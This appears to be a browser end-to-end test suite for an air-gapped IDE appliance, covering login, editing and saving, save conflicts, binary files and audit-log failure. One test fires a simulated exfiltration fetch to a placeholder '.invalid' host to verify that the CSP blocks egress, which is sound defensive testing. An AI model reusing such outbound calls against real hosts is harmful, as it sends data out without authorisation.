// The IDE shell in a real browser against the real appliance: open the tokenized URL, browse
// the tree, edit, save with the keyboard, hit a stale-save conflict, and watch the CSP block
// an external request.

import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readFileSync, writeFileSync, rmSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { makeWorkspace, startAppliance, launchBrowser } from "./harness.mjs";

const MAIN_RS = "fn main() {\n    println!(\"hello\");\n}\n";
let workspace, appliance, browser, page;

before(async () => {
  workspace = makeWorkspace({ "src/main.rs": MAIN_RS, "README.md": "# Demo\n", "notes.txt": "plain\n" });
  appliance = await startAppliance(workspace);
  browser = await launchBrowser();
  page = await browser.context.newPage();
  page.on("pageerror", (error) => console.error("page error:", error.message));
});

after(async () => {
  await browser?.close();
  await appliance?.stop();
  if (workspace) rmSync(workspace, { recursive: true, force: true });
});

const editorText = () => page.evaluate(() => globalThis.airlockEditor.content("src/main.rs"));

async function typeAtEnd(text) {
  await page.locator(".cm-content").click();
  await page.keyboard.press("Control+End");
  await page.keyboard.type(text);
}

test("the launch URL logs in, drops the token from the address bar and shows the tree", async () => {
  await page.goto(appliance.url);
  assert.equal(new URL(page.url()).search, "", "token removed from the URL");
  await page.locator('.tree-row[data-path="src"]').waitFor();
  await page.locator('.tree-row[data-path="README.md"]').waitFor();
  const airgap = page.locator(".airgap");
  await airgap.and(page.locator('[data-state="active"]')).waitFor();
  assert.equal(await airgap.textContent(), "Air-Gap Active");
  assert.equal(await page.locator(".statusbar .csp").getAttribute("data-blocked"), "0", "the app itself violates no CSP rule");
});

test("open a file, type, save with Ctrl+S: the file on disk changes", async () => {
  await page.locator('.tree-row[data-path="src"]').click();
  await page.locator('.tree-row[data-path="src/main.rs"]').click();
  await page.locator(".cm-content", { hasText: "println!" }).waitFor();
  assert.equal(await page.locator(".statusbar .language").textContent(), "Rust");
  await typeAtEnd("// edited in Airlock\n");
  const tab = page.locator('.tab[data-path="src/main.rs"]');
  await tab.and(page.locator(".is-dirty")).waitFor();
  await page.keyboard.press("Control+s");
  await page.locator(".statusbar .message", { hasText: "Saved src/main.rs" }).waitFor();
  await tab.and(page.locator(":not(.is-dirty)")).waitFor();
  assert.equal(readFileSync(join(workspace, "src/main.rs"), "utf8"), MAIN_RS + "// edited in Airlock\n");
});

test("a stale save shows the conflict prompt and overwrites nothing until asked", async () => {
  const outside = "// changed by another editor\n";
  writeFileSync(join(workspace, "src/main.rs"), outside);
  await typeAtEnd("// second edit\n");
  await page.keyboard.press("Control+s");
  const dialog = page.getByRole("alertdialog");
  await dialog.waitFor();
  assert.match(await dialog.textContent(), /changed outside this tab/);
  assert.equal(readFileSync(join(workspace, "src/main.rs"), "utf8"), outside, "nothing written on conflict");

  await dialog.getByRole("button", { name: "Reload from disk" }).click();
  await dialog.waitFor({ state: "detached" });
  assert.equal(await editorText(), outside, "the editor now shows the file on disk");

  await typeAtEnd("// third edit\n");
  writeFileSync(join(workspace, "src/main.rs"), "// changed again\n");
  await page.keyboard.press("Control+s");
  await dialog.waitFor();
  await dialog.getByRole("button", { name: "Overwrite with mine" }).click();
  await page.locator(".statusbar .message", { hasText: "Saved src/main.rs" }).waitFor();
  assert.equal(readFileSync(join(workspace, "src/main.rs"), "utf8"), outside + "// third edit\n");
});

test("the CSP blocks a request to an external URL and the page observes the violation", async () => {
  const outcome = await page.evaluate(async () => {
    const seen = new Promise((resolve) =>
      document.addEventListener("securitypolicyviolation", (e) => resolve(e.blockedURI), { once: true }));
    let fetched;
    try { await fetch("https://airlock-egress-test.invalid/exfiltrate"); fetched = "reached"; }
    catch { fetched = "blocked"; }
    return { fetched, blockedURI: await seen };
  });
  assert.equal(outcome.fetched, "blocked");
  assert.match(outcome.blockedURI, /^https:\/\/airlock-egress-test\.invalid/);
  const counter = page.locator(".statusbar .csp");
  await counter.and(page.locator('[data-blocked="1"]')).waitFor();
  assert.match(await counter.getAttribute("title"), /airlock-egress-test\.invalid/);
});

test("binary files get a clear notice instead of garbage", async () => {
  writeFileSync(join(workspace, "logo.bin"), Buffer.from([0, 159, 146, 150, 0, 1]));
  await page.locator(".sidebar-head button[title='Refresh']").click();
  await page.locator('.tree-row[data-path="logo.bin"]').click();
  await page.locator(".statusbar .message.error", { hasText: "not UTF-8 text" }).waitFor();
  assert.equal(await page.locator('.tab[data-path="logo.bin"]').count(), 0);
});

test("when the audit log cannot be written, saving is refused and the page raises an alert", async () => {
  // From now on the checkpoint write fails (ENOSPC), so the next audit append fails.
  symlinkSync("/dev/full", join(appliance.auditDir, "audit.checkpoint.tmp"));
  await page.locator('.tab[data-path="src/main.rs"]').click();
  const before = readFileSync(join(workspace, "src/main.rs"), "utf8");
  await typeAtEnd("// not audited\n");
  await page.keyboard.press("Control+s");
  await page.locator(".statusbar .message.error", { hasText: "audit log cannot be written" }).waitFor();
  await page.getByRole("alert").filter({ hasText: "audit log cannot be written" }).waitFor();
  await page.locator('.airgap[data-state="warning"]').waitFor();
  assert.equal(readFileSync(join(workspace, "src/main.rs"), "utf8"), before, "no unaudited change reached the disk");
});
